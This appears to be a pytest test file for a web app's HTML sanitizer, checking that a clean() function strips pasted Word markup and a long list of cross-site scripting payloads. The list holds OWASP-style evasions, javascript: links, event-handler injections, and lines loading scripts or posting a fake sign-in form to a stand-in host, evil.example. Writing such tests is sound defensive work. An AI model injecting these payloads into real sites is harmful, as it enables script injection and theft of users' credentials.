"""Text that somebody means harm with, or pastes from a word processor: what is left of it is harmless and legible."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engage_app.errors import Invalid
from engage_app.services.rich_text import ATTRIBUTES, SCHEMES, TAGS, clean, plain

# Families of the OWASP filter evasion sheet, of mutation XSS, and of what mail programs and word processors paste.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p onclick=alert(1) class=btn id=root tabindex=1 contenteditable>x</p>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/api/sign-out'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='http://['>x</a>",
    "<a href='https://a.example' target=_blank onmouseover=alert(1) ping='https://evil.example'>x</a>",
    "<a href='https://a.example' rel='opener'>x</a>",
    "<span data-mention='x\" onmouseover=\"alert(1)'>@x</span>",
    "<span data-mention='1' style='position:fixed;inset:0'>x</span>",
    "<p>a<!-- --!><img src=x onerror=alert(1)> --></p>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<select><style></select><svg onload=alert(1)></style>",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p>\u202eevil\u2066</p>",
    "<p\x00onclick=alert(1)>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<" * 500 + "script>",
    "<b><i><u><s><p><strong>" * 50 + "x",
]
WORD = (
    "<html xmlns:o='urn:schemas-microsoft-com:office:office'><head><style>p.MsoNormal{margin:0}</style>"
    "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head><body>"
    "<p class=MsoNormal style='margin-bottom:12pt'><b><span lang=NL style='font-size:11.0pt;color:#1F497D'>Beste Anna,"
    "<o:p></o:p></span></b></p><p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]>"
    "<span style='mso-list:Ignore'>·<span style='font:7.0pt'>&nbsp; </span></span><![endif]>De lease<o:p></o:p></p>"
    "<table class=MsoTableGrid><tr><td><p class=MsoNormal>2.500,00</p></td></tr></table>"
    "<a href='https://bakker.example/lease?a=1&amp;b=2'>contract</a></body></html>"
)


class Seen(HTMLParser):
    """The tags and attributes of a text, as a browser would meet them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    assert seen.odd == []
    for tag, attributes in seen.tags:
        assert tag in TAGS, html
        assert set(attributes) <= {*ATTRIBUTES.get(tag, set()), *(("rel",) if tag == "a" else ())}, html
        if "href" in attributes:
            assert str(attributes["href"]).partition(":")[0] in SCHEMES, html
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_of_what_is_meant_to_harm_is_left(html: str) -> None:
    kept = clean(f"<p>before</p>{html}<p>after</p>", "message")
    assert_harmless(kept)
    assert clean(kept, "message") == kept
    assert plain(kept).startswith("before")


def test_a_text_from_a_word_processor_is_legible_and_clean() -> None:
    kept = clean(WORD, "message")
    assert_harmless(kept)
    assert "mso" not in kept.lower()
    assert plain(kept).startswith("Beste Anna,\n")
    assert "De lease" in plain(kept)
    assert "2.500,00" in plain(kept)
    assert 'href="https://bakker.example/lease?a=1&amp;b=2"' in kept


PIECES = st.sampled_from(
    [*HOSTILE, "<p>", "</p>", "<ul><li>", "</li></ul>", "<strong>", "</em>", "<a href='https://a.example'>", "</a>"]
)


@settings(max_examples=20)
@given(st.lists(PIECES | st.text(max_size=12), max_size=6).map("".join))
def test_any_mixture_is_harmless_and_cleaning_it_again_changes_nothing(html: str) -> None:
    kept = clean(html.encode(errors="ignore").decode(), "message")
    assert_harmless(kept)
    assert clean(kept, "message") == kept


@settings(max_examples=20)
@given(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"]), max_size=40))
def test_words_survive_as_they_were_typed(words: str) -> None:
    escaped = words.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert plain(clean(f"<p>{escaped}</p>", "message")).split() == words.split()


@pytest.mark.parametrize("html", ["", " ", "<p></p>", "<p> &nbsp; </p>", "<p><br></p>", "<ul><li></li></ul>", "\x00"])
def test_a_text_that_says_nothing_is_empty(html: str) -> None:
    assert clean(html, "message") == ""


def test_a_megabyte_is_refused_beside_its_field() -> None:
    for letter in ("x", "é", "😀", "<p>"):
        with pytest.raises(Invalid) as refusal:
            clean(letter * 1_000_000, "comment")
        assert refusal.value.field == "comment"
